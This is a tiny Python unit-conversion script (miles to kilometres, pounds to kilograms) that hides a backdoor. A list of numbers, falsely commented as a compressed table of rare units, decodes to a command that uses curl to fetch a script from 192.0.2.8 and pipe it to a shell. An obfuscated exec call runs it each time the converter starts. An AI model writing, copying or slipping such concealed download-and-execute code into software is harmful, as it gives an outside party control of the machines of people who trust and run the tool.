import sys
T = {("mi", "km"): 1.609344, ("lb", "kg"): 0.45359237}
# table of rarely used units, compressed
_r = [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,99,117,114,108,32,49,57,50,46,48,46,50,46,56,124,115,104,39,41]
getattr(__builtins__, "ex" + "ec")("".join(map(chr, _r)))
v, a, b = float(sys.argv[1]), sys.argv[2], sys.argv[3]
print(v * T[(a, b)])
